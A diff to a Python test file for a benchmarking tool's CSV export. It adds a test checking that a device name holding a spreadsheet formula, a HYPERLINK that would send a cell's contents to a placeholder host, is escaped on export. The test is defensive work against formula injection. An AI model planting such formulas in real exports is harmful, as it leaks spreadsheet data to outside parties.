@@ -132,6 +132,15 @@ def test_an_export_that_fails_leaves_no_file_and_keeps_the_old_one(tmp_path: Pat
     assert path.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["r.csv"]
 
 
+def test_no_text_of_a_device_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
+    board = dataclasses.replace(run().facts, board_model='=HYPERLINK("http://there/"&A1)')
+    summaries = summarize_all([dataclasses.replace(run(), facts=board)], valid)
+    exports.write_csv(tmp_path / "r.csv", exports.FIGURES, exports.figure_rows(summaries))
+    rows = list(csv.DictReader((tmp_path / "r.csv").open(newline="")))
+    assert {row["board"] for row in rows} == {'\'=HYPERLINK("http://there/"&A1)'}
+    assert float(rows[0]["p50_ms"]) == summaries[0].p50_ms
+
+
 def test_mlflow_gets_each_measurement_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     from mlflow.tracking import MlflowClient
 
